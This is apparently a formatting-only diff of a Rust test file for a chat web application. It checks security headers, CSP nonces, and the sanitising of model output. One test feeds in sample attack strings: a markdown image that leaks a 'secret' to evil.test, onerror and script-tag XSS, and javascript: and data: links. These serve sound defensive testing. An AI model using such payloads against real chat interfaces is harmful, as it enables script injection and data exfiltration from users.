@@ -39,16 +39,31 @@ async fn every_answer_carries_the_security_headers_and_a_nonce_of_its_own() {
         let response = browser.get(path).await;
         let header = |name: &str| response.headers()[name].to_str().expect("text").to_owned();
         let policy = header("content-security-policy");
-        for part in ["default-src 'self'", "img-src 'self'", "object-src 'none'", "frame-ancestors 'none'", "base-uri 'none'"] {
+        for part in [
+            "default-src 'self'",
+            "img-src 'self'",
+            "object-src 'none'",
+            "frame-ancestors 'none'",
+            "base-uri 'none'",
+        ] {
             assert!(policy.contains(part), "{policy}");
         }
         assert!(!policy.contains("unsafe-inline"));
         assert_eq!(header("x-content-type-options"), "nosniff");
         assert!(!header("x-request-id").is_empty());
-        let nonce = policy.split("'nonce-").nth(1).and_then(|rest| rest.split('\'').next()).expect("a nonce").to_owned();
+        let nonce = policy
+            .split("'nonce-")
+            .nth(1)
+            .and_then(|rest| rest.split('\'').next())
+            .expect("a nonce")
+            .to_owned();
         let page = response.text().await.expect("a page");
-        let scripts: Vec<_> = page.split("<script").skip(1).filter_map(|script| script.split('>').next()).collect();
-        assert!(scripts.iter().all(|script| script.contains(&format!("nonce=\"{nonce}\""))), "{path}: {scripts:?}");
+        let scripts: Vec<_> =
+            page.split("<script").skip(1).filter_map(|script| script.split('>').next()).collect();
+        assert!(
+            scripts.iter().all(|script| script.contains(&format!("nonce=\"{nonce}\""))),
+            "{path}: {scripts:?}"
+        );
         nonces.push(nonce);
     }
     nonces.sort();
@@ -78,7 +93,9 @@ async fn what_the_model_says_cannot_run_or_reach_out_of_the_page() {
     let prompt = prompt();
     let text = "![pixel](https://evil.test/?q=secret) <img src=x onerror=alert(1)> <script>alert(1)</script> \
                 [a](javascript:alert(1)) [b](data:text/html,x) [c](https://example.test/ok)";
-    app.sandbox.script(&prompt, serde_json::json!({ "text": text, "gap_ms": 0, "first_token_delay_ms": 0 })).await;
+    app.sandbox
+        .script(&prompt, serde_json::json!({ "text": text, "gap_ms": 0, "first_token_delay_ms": 0 }))
+        .await;
     let mut reply = browser.start_reply(&crate::support::new_request(&prompt)).await;
     let (_, thread_id) = reply.read_started().await;
     reply.read_to_end().await;
@@ -86,7 +103,9 @@ async fn what_the_model_says_cannot_run_or_reach_out_of_the_page() {
     let page = browser.get(&format!("/chat/{thread_id}")).await.text().await.expect("a page");
     let answer = page.split("data-testid=\"message-assistant\"").nth(1).expect("the answer");
     assert!(answer.contains("https://example.test/ok"));
-    for forbidden in ["<img", "<script>alert", "href=\"javascript:", "href=\"data:", "src=\"https://evil.test"] {
+    for forbidden in
+        ["<img", "<script>alert", "href=\"javascript:", "href=\"data:", "src=\"https://evil.test"]
+    {
         assert!(!answer.contains(forbidden), "{forbidden} in {answer}");
     }
 }
